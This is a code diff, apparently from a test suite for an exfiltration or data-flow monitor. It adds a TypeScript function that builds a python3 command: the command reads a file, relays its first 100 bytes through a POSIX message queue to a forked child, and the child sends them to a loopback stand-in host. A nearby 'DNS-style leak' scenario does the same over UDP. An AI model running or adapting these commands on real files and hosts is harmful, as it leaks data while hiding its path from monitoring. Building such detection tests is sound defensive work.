@@ -483,6 +483,41 @@ ${write.join('\n')}
 ' ${pid} ${addr}`;
 }
 
+/**
+ * A POSIX message queue between two processes: python3 opens a queue and
+ * forks; the parent reads `file` and sends its first 100 bytes as one
+ * message; the child, which never opened `file`, receives the message and
+ * sends it to 127.0.0.2:PORT.
+ */
+export function mqueueScenario(file: string, port: number): string {
+  return `python3 -c '
+import ctypes, os, socket, sys
+rt = ctypes.CDLL("librt.so.1", use_errno=True)
+rt.mq_open.restype = ctypes.c_int
+rt.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_int, ctypes.c_void_p]
+rt.mq_send.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_uint]
+rt.mq_receive.restype = ctypes.c_ssize_t
+rt.mq_receive.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_void_p]
+name = b"/cwq%d" % os.getpid()
+q = rt.mq_open(name, os.O_CREAT | os.O_RDWR, 0o600, None)
+if q < 0:
+    raise OSError(ctypes.get_errno(), "mq_open")
+if os.fork() == 0:
+    buf = ctypes.create_string_buffer(8192)
+    n = rt.mq_receive(q, buf, 8192, None)
+    s = socket.create_connection(("127.0.0.2", ${port}))
+    s.sendall(buf.raw[:n])
+    s.close()
+    os._exit(0)
+d = open("${file}", "rb").read()[:100]
+if rt.mq_send(q, d, len(d), 0) != 0:
+    raise OSError(ctypes.get_errno(), "mq_send")
+os.wait()
+rt.mq_unlink(name)
+print(len(d))
+'`;
+}
+
 /** A DNS-style leak: python3 reads `file` and sends part of it hex-encoded as a UDP datagram (a query name) to 127.0.0.2:PORT. */
 export function udpLeakScenario(file: string, port: number): string {
   return `python3 -c '
